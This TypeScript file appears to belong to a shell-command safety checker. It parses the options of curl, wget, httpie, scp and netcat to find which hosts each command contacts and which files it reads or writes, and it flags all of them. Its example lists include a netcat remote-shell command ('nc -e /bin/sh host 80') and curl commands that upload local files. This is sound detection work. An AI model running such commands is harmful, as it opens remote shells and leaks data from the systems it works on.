// Programs that transfer files to and from other machines. None of them is harmless; their options show which
// addresses they connect to and which files they send, write or read settings from.
import { addressOf } from './git-reads.js';
import { withFullNames } from './long-options.js';
import { optionTable, optionTouches, type ParsedArguments, parseOptions, touch } from './options.js';
import { known, type Program, type ProgramVerdict, type ShellField, type Touch } from './program.js';

const curlOptions = optionTable(
  `-afgijklnpqsvBGIJLMNORSVZ012346 -#: -A= -b= -c=write -C= -d= -D=write -e= -E= -F= -h? -H= -K=read -m= -o=write -P= -Q= -r= -t= -T= -u= -U= -w= -x= -X= -y= -Y= -z=
  --abstract-unix-socket= --alt-svc=write --anyauth --append --aws-sigv4= --basic --ca-native --cacert=read --capath=read-tree --cert= --cert-status
  --cert-type= --ciphers= --compressed --compressed-ssh --config=read --connect-timeout= --connect-to= --continue-at= --cookie= --cookie-jar=write
  --create-dirs --create-file-mode= --crlf --crlfile=read --curves= --data= --data-ascii= --data-binary= --data-raw= --data-urlencode= --delegation=
  --digest --disable --disable-eprt --disable-epsv --disallow-username-in-url --dns-interface= --dns-ipv4-addr= --dns-ipv6-addr= --dns-servers=
  --doh-cert-status --doh-insecure --doh-url= --dump-ca-embed --dump-header=write --ech= --egd-file=read --engine= --etag-compare=read --etag-save=write
  --expect100-timeout= --fail --fail-early --fail-with-body --false-start --form= --form-escape --form-string= --ftp-account=
  --ftp-alternative-to-user= --ftp-create-dirs --ftp-method= --ftp-pasv --ftp-port= --ftp-pret --ftp-skip-pasv-ip --ftp-ssl-ccc --ftp-ssl-ccc-mode=
  --ftp-ssl-control --get --globoff --happy-eyeballs-timeout-ms= --haproxy-clientip= --haproxy-protocol --head --header= --help? --hostpubmd5=
  --hostpubsha256= --hsts=write --http0.9 --http1.0 --http1.1 --http2 --http2-prior-knowledge --http3 --http3-only --ignore-content-length --include
  --insecure --interface= --ip-tos= --ipfs-gateway= --ipv4 --ipv6 --json= --junk-session-cookies --keepalive-cnt= --keepalive-time= --key=read
  --key-type= --krb= --libcurl=write --limit-rate= --list-only --local-port= --location --location-trusted --login-options= --mail-auth= --mail-from=
  --mail-rcpt= --mail-rcpt-allowfails --manual --max-filesize= --max-redirs= --max-time= --metalink --mptcp --negotiate --netrc --netrc-file=read
  --netrc-optional --next --no-alpn --no-buffer --no-clobber --no-keepalive --no-npn --no-progress-meter --no-sessionid --noproxy= --ntlm --ntlm-wb
  --oauth2-bearer= --output=write --output-dir=write-tree --parallel --parallel-immediate --parallel-max= --parallel-max-host= --pass= --path-as-is
  --pinnedpubkey= --post301 --post302 --post303 --preproxy= --progress-bar --proto= --proto-default= --proto-redir= --proxy= --proxy-anyauth
  --proxy-basic --proxy-ca-native --proxy-cacert=read --proxy-capath=read-tree --proxy-cert= --proxy-cert-type= --proxy-ciphers= --proxy-crlfile=read
  --proxy-digest --proxy-header= --proxy-http2 --proxy-insecure --proxy-key=read --proxy-key-type= --proxy-negotiate --proxy-ntlm --proxy-pass=
  --proxy-pinnedpubkey= --proxy-service-name= --proxy-ssl-allow-beast --proxy-ssl-auto-client-cert --proxy-tls13-ciphers= --proxy-tlsauthtype=
  --proxy-tlspassword= --proxy-tlsuser= --proxy-tlsv1 --proxy-user= --proxy1.0= --proxytunnel --pubkey=read --quote= --random-file=read --range= --rate=
  --raw --referer= --remote-header-name --remote-name --remote-name-all --remote-time --remove-on-error --request= --request-target= --resolve=
  --retry= --retry-all-errors --retry-connrefused --retry-delay= --retry-max-time= --sasl-authzid= --sasl-ir --service-name= --show-error
  --show-headers --sigalgs= --silent --skip-existing --socks4= --socks4a= --socks5= --socks5-basic --socks5-gssapi --socks5-gssapi-nec
  --socks5-gssapi-service= --socks5-hostname= --speed-limit= --speed-time= --ssl --ssl-allow-beast --ssl-auto-client-cert --ssl-no-revoke --ssl-reqd
  --ssl-revoke-best-effort --ssl-sessions=write --sslv2 --sslv3 --stderr=write --styled-output --suppress-connect-headers --tcp-fastopen --tcp-nodelay
  --telnet-option= --tftp-blksize= --tftp-no-options --time-cond=list --tls-earlydata --tls-max= --tls13-ciphers= --tlsauthtype= --tlspassword=
  --tlsuser= --tlsv1 --tlsv1.0 --tlsv1.1 --tlsv1.2 --tlsv1.3 --tr-encoding --trace=write --trace-ascii=write --trace-config= --trace-ids --trace-time
  --unix-socket=read --upload-file= --upload-flags= --url= --url-query= --use-ascii --user= --user-agent= --variable= --verbose --version --vlan-priority=
  --write-out= --xattr`,
);

const curlUrls = /^--url$/;
const curlHosts = /^(-x|--proxy|--preproxy|--proxy1\.0|--socks4a?|--socks5|--socks5-hostname|--doh-url)$/;
const curlData = /^(-d|--data|--data-ascii|--data-binary|--json|-H|--header|--proxy-header|-w|--write-out|--url)$/;

function judgeCurl({ args }: { args: readonly ShellField[] }): ProgramVerdict {
  const parsed = parseOptions(withFullNames(args, curlOptions, { negated: true }), curlOptions, { anyOption: true });
  const given = parsed.options.flatMap(({ name, value }) => (value ? [{ name, value }] : []));
  const urls = [...parsed.operands, ...given.filter(({ name }) => curlUrls.test(name)).map(({ value }) => value)];
  const hosts = given.filter(({ name }) => curlHosts.test(name)).map(({ value }) => value);
  const peers = given.flatMap(({ name, value }) => curlPeers(name, value.value ?? ''));
  const takesName = parsed.options.some(({ name }) =>
    /^(-O|--remote-name|--remote-name-all|-J|--remote-header-name)$/.test(name),
  );
  return {
    why: 'it reaches the network',
    network: [...urls, ...hosts, ...peers.map(known)].flatMap((url) => httpAddresses(url)),
    touches: [
      ...optionFiles(parsed),
      ...given.flatMap(({ name, value }) => curlFiles(name, value)),
      ...urls.flatMap(localFile),
      ...(takesName ? touch('write-tree', known('.')) : []),
      ...notUnderstood(parsed),
    ],
  };
}

/** The machines that a request goes to in place of the host in its address. */
function curlPeers(name: string, value: string): string[] {
  if (name === '--connect-to') {
    const [, host = '', port = ''] = /^(?:\[[^\]]*\]|[^:]*):[^:]*:(\[[^\]]*\]|[^:]*):?(\d*)$/.exec(value) ?? [];
    return host === '' ? [] : [port === '' ? host : `${host}:${port}`];
  }
  if (name !== '--resolve') return [];
  const [, addresses = ''] = /^[+-]?(?:\[[^\]]*\]|[^:]*):[^:]*:(.*)$/s.exec(value) ?? [];
  return addresses
    .split(',')
    .filter((address) => address !== '')
    .map((address) => (address.startsWith('[') || !address.includes(':') ? address : `[${address}]`));
}

/** Files inside option values: `-d @file`, `-F name=@file`, `-T file`, `-b file`. */
function curlFiles(name: string, field: ShellField): Touch[] {
  const { value } = field;
  const file = (path: string): Touch[] => touch('read', known(path));
  if (value === undefined)
    return /^(-[dFTbEKw]|--(data|form|upload|json|cookie|cert|variable))/.test(name) ? touch('read', field) : [];
  if (curlData.test(name) && value.startsWith('@')) return file(value.slice(1));
  if (/^(-w|--write-out)$/.test(name)) {
    return [...value.slice(0, value.lastIndexOf('}') + 1).matchAll(/%output\{([^}]*)\}/g)].flatMap(([, path = '']) =>
      touch('write', known(path.replace(/^>>/, ''))),
    );
  }
  if (/^--(data-urlencode|variable|url-query)$/.test(name)) {
    const path = /^[^=]*?@(.+)$/s.exec(value)?.[1];
    return path === undefined ? [] : file(path);
  }
  if (/^(-F|--form)$/.test(name)) {
    const [, paths] = /^[^=]*=[@<](.+)$/s.exec(value) ?? [];
    return (paths ?? '').split(',').flatMap((path) => file(path.replace(/;.*$/s, '').replace(/^"(.*)"$/s, '$1')));
  }
  if (/^(-T|--upload-file)$/.test(name)) return value === '.' ? [] : braced(value).flatMap(file);
  if (/^(-b|--cookie)$/.test(name)) return value.includes('=') ? [] : file(value);
  if (/^(-E|--cert|--proxy-cert)$/.test(name)) return file(value.replace(/(?<!\\):[^:]*$/s, ''));
  if (/^(--pinnedpubkey|--proxy-pinnedpubkey)$/.test(name)) return value.startsWith('sha256//') ? [] : file(value);
  return [];
}

/** `file:///etc/passwd` is a local file; an unknown URL may be one, unless its scheme is known. */
function localFile(url: ShellField): Touch[] {
  if (url.value === undefined) {
    const isRemote = !url.splits && /^"?(https?|ftps?|sftp|scp):\/\//i.test(url.text);
    return isRemote ? [] : touch('read', url);
  }
  const path = /^file:\/\/(?:localhost)?(\/.*)$/is.exec(url.value)?.[1] ?? /^file:(\/[^/].*)$/is.exec(url.value)?.[1];
  return path === undefined ? [] : touch('read', known(decoded(path)));
}

function decoded(path: string): string {
  try {
    return decodeURIComponent(path);
  } catch {
    return path;
  }
}

const httpAddresses = ({ value }: ShellField): string[] =>
  value === undefined || value === '' || /^file:/i.test(value)
    ? []
    : braced(value).map((url) => (/^[a-z][a-z0-9+.-]*:\/\//i.test(url) ? url : `http://${url}`));

/** `{a,b}` expands to both in a URL. */
function braced(text: string): string[] {
  const [, before = '', inside, after = ''] = /^([^{]*)\{([^{}]*)\}(.*)$/s.exec(text) ?? [];
  if (inside === undefined || text.split('{').length > 5) return [text];
  return inside.split(',').flatMap((part) => braced(`${before}${part}${after}`));
}

/** A dash is standard output. */
const optionFiles = (parsed: ParsedArguments): Touch[] =>
  optionTouches(parsed).filter(({ file }) => file.value !== '-');

/** After an unknown option, a word may be the name of a file to write. */
const notUnderstood = ({ problem }: ParsedArguments): Touch[] =>
  problem === undefined ? [] : [{ access: 'write', file: { text: problem, mayBeOption: false, splits: false } }];

const wgetOptions = optionTable(
  `-V -h -b -d -q -v -F -c -N -S -x -E -r -k -K -m -p -H -L -4 -6 -n= -e= -o=write -a=write -i= -B= -t= -O=write -T= -w= -Q= -P=write-tree -U= -l= -A= -R= -D= -I= -X=
  --version --help --background --execute= --output-file=write --append-output=write --debug --quiet --verbose --no-verbose --report-speed=
  --input-file= --force-html --base= --config=read --no-config --rejected-log=write --tries= --retry-connrefused --retry-on-host-error
  --retry-on-http-error= --output-document=write --no-clobber --no-netrc --continue --start-pos= --progress= --show-progress --timestamping
  --no-if-modified-since --no-use-server-timestamps --server-response --spider --timeout= --dns-timeout= --connect-timeout= --read-timeout= --wait=
  --waitretry= --random-wait --no-proxy --proxy? --quota= --bind-address= --bind-dns-address= --dns-servers= --limit-rate= --no-dns-cache
  --restrict-file-names= --ignore-case --inet4-only --inet6-only --prefer-family= --user= --password= --ask-password --use-askpass= --no-iri
  --local-encoding= --remote-encoding= --unlink --xattr --no-directories --force-directories --no-host-directories --protocol-directories
  --directory-prefix=write-tree --cut-dirs= --http-user= --http-password= --no-cache --cache= --default-page= --adjust-extension --html-extension
  --ignore-length --header= --compression= --max-redirect= --proxy-user= --proxy-password= --referer= --save-headers --user-agent=
  --no-http-keep-alive --no-cookies --cookies= --load-cookies=read --save-cookies=write --keep-session-cookies --post-data= --post-file=read
  --method= --body-data= --body-file=read --content-disposition --content-on-error --auth-no-challenge --secure-protocol= --https-only
  --no-check-certificate --check-certificate= --certificate=read --certificate-type= --private-key=read --private-key-type= --ca-certificate=read
  --ca-directory=read-tree --crl-file=read --pinnedpubkey= --random-file=read --egd-file=read --ciphers= --no-hsts --hsts-file=write --ftp-user=
  --ftp-password= --no-remove-listing --no-glob --no-passive-ftp --preserve-permissions --retr-symlinks --ftps-implicit --ftps-resume-ssl
  --ftps-clear-data-connection --ftps-fallback-to-ftp --warc-file=write --warc-header= --warc-max-size= --warc-cdx --warc-dedup=read
  --no-warc-compression --no-warc-digests --no-warc-keep-log --warc-tempdir=write-tree --recursive --level= --delete-after --convert-links
  --convert-file-only --backups? --backup-converted --mirror --page-requisites --strict-comments --accept= --reject= --accept-regex=
  --reject-regex= --regex-type= --domains= --exclude-domains= --follow-ftp --follow-tags= --ignore-tags= --span-hosts --relative
  --include-directories= --trust-server-names --exclude-directories= --no-parent --no-host-lookup --input-metalink=read`,
);

function judgeWget({ args }: { args: readonly ShellField[] }): ProgramVerdict {
  const parsed = parseOptions(withFullNames(args, wgetOptions), wgetOptions, { anyOption: true });
  const value = (names: RegExp): ShellField[] =>
    parsed.options.flatMap((option) => (names.test(option.name) && option.value ? [option.value] : []));
  const lists = value(/^(-i|--input-file)$/);
  const settings = value(/^(-e|--execute)$/).filter((field) => !/^robots\s*=\s*(off|no)$/i.test(field.value ?? ''));
  const askpass = value(/^--use-askpass$/);
  const isElsewhere = parsed.options.some(({ name }) =>
    /^(-O|--output-document|-P|--directory-prefix|--spider)$/.test(name),
  );
  return {
    why: 'it reaches the network',
    network: [...parsed.operands, ...lists.filter((field) => field.value?.includes('://'))].flatMap(httpAddresses),
    touches: [
      ...optionFiles(parsed),
      ...lists.filter((field) => !field.value?.includes('://')).flatMap((file) => touch('read', file)),
      ...parsed.operands.flatMap(localFile),
      ...(isElsewhere ? [] : touch('write-tree', known('.'))),
      // A line of its configuration may name any file.
      ...settings.map(
        (field): Touch => ({ access: 'write', file: { text: field.text, mayBeOption: false, splits: false } }),
      ),
      ...notUnderstood(parsed),
    ],
    ...(askpass.length > 0 && { starts: [{ words: askpass }] }),
  };
}

const httpieOptions = optionTable(
  `-jfvhbmdcFSI -x -p= -P= -s= -o=write -a= -A= -4 -6 --json --form --multipart --boundary= --raw= --compress --pretty= --style= --unsorted
  --sorted --response-charset= --response-mime= --format-options= --print= --headers --meta --body --verbose --all --history-print= --stream
  --output=write --download --continue --quiet --session= --session-read-only= --auth= --auth-type= --ignore-netrc --offline --proxy= --follow
  --max-redirects= --max-headers= --timeout= --check-status --path-as-is --chunked --verify= --ssl= --ciphers= --cert=read --cert-key=read
  --cert-key-pass= --ignore-stdin --help --manual --version --traceback --default-scheme= --debug`,
);

/** `http [METHOD] URL [ITEM…]`: the items are fields, headers and files, as in `name=@file` and `photo@file`. */
function judgeHttpie({ args }: { args: readonly ShellField[] }): ProgramVerdict {
  const parsed = parseOptions(withFullNames(args, httpieOptions), httpieOptions, { anyOption: true });
  const [first, ...rest] = parsed.operands;
  const hasMethod = rest.length > 0 && /^[A-Za-z]+$/.test(first?.value ?? '');
  const [url, ...items] = hasMethod ? rest : parsed.operands;
  const sessions = parsed.options.flatMap(({ name, value }) =>
    /^--session(-read-only)?$/.test(name) && value?.value?.includes('/') ? touch('write', value) : [],
  );
  return {
    why: 'it reaches the network',
    network: url ? httpAddresses(url) : [],
    touches: [...optionFiles(parsed), ...sessions, ...items.flatMap(httpieFile), ...notUnderstood(parsed)],
  };
}

function httpieFile(item: ShellField): Touch[] {
  if (item.value === undefined) return touch('read', item);
  const path = /^(?:[^=:@]*(?::?=)?)@([^;]+)/s.exec(item.value)?.[1];
  return path === undefined ? [] : touch('read', known(path));
}

const scpOptions = optionTable('-346ABCOpqRrsTv -c= -D= -F=read -i=read -J= -l= -o= -P= -S= -X= -b=read');

/** Names with a host are remote; of the others the last is written. */
function judgeCopy({ args, name }: { args: readonly ShellField[]; name: string }): ProgramVerdict {
  const parsed = parseOptions(args, scpOptions, { anyOption: true });
  const { operands } = parsed;
  const jumps = parsed.options.flatMap(({ name: option, value }) =>
    option === '-J' && value?.value ? value.value.split(',') : [],
  );
  const isRemote = (field: ShellField): boolean => addressOf(field).length > 0;
  const hosts = name === 'sftp' ? operands.filter((field) => !isRemote(field)).flatMap(({ value }) => value ?? []) : [];
  return {
    why: 'it reaches the network',
    network: [...operands.flatMap(addressOf), ...[...hosts, ...jumps].map((host) => `ssh://${host}`)],
    touches: [
      ...optionFiles(parsed),
      ...(name === 'sftp' ? touch('write-tree', known('.')) : []),
      ...operands.flatMap((field, index) => {
        if (name === 'sftp' || isRemote(field)) return [];
        return touch(index === operands.length - 1 ? 'write-tree' : 'read-tree', field);
      }),
    ],
  };
}

const ncOptions = optionTable(
  '-46bCDdFhklNnrStuvzZ -U=read -I= -i= -M= -m= -O= -P= -p= -q= -s= -T= -V= -W= -w= -X= -x= -e= -c= -o=write',
);

function judgeConnection({ args, name }: { args: readonly ShellField[]; name: string }): ProgramVerdict {
  const parsed = parseOptions(args, ncOptions, { anyOption: true });
  const [host, port] = parsed.operands;
  const runs = parsed.options.flatMap(({ name: option, value }) =>
    /^-[ec]$/.test(option) && value?.value !== undefined ? [{ script: value.value, dialect: 'posix' as const }] : [],
  );
  const isListening = parsed.options.some(({ name: option }) => option === '-l');
  const reached =
    !isListening && host?.value !== undefined ? [`tcp://${host.value}${port?.value ? `:${port.value}` : ''}`] : [];
  return {
    why: `${name} is not known to be harmless`,
    network: reached,
    touches: optionTouches(parsed),
    ...(runs.length > 0 && { starts: runs }),
  };
}

/** The host that ssh connects to, and its jump hosts. */
export function sshAddresses(words: readonly ShellField[]): string[] {
  const table = optionTable(
    '-46AaCfGgKkMNnqsTtVvXxYy -B= -b= -c= -D= -E= -e= -F= -I= -i= -J= -L= -l= -m= -O= -o= -P= -p= -Q= -R= -S= -W= -w=',
  );
  const parsed = parseOptions(words, table, { operandsEndOptions: true, anyOption: true });
  const jumps = parsed.options.flatMap(({ name, value }) => (name === '-J' ? (value?.value ?? '').split(',') : []));
  const hosts = [parsed.operands[0]?.value ?? '', ...jumps].filter(Boolean);
  return hosts.map((host) => (host.includes('://') ? host : `ssh://${host}`));
}

export const transfers: readonly Program[] = [
  {
    names: ['curl'],
    judge: judgeCurl,
    examples: {
      harmless: [],
      not: ['curl https://example.com', 'curl -d @a.txt x', 'curl -X POST --data-binary @- https://example.com/upload'],
    },
  },
  { names: ['wget'], judge: judgeWget, examples: { harmless: [], not: ['wget -O b x', 'wget -nv -e robots=off x'] } },
  {
    names: ['http', 'https', 'httpie', 'xh', 'xhs'],
    judge: judgeHttpie,
    examples: { harmless: [], not: ['http example.com', 'http POST https://example.com a=@a.txt', 'xh put :3000 a=b'] },
  },
  { names: ['scp', 'sftp'], judge: judgeCopy, examples: { harmless: [], not: ['scp a host:b', 'sftp host'] } },
  {
    names: ['nc', 'ncat', 'netcat', 'telnet'],
    judge: judgeConnection,
    examples: { harmless: [], not: ['nc host 80', 'nc -l 80', 'nc -e /bin/sh host 80'] },
  },
];
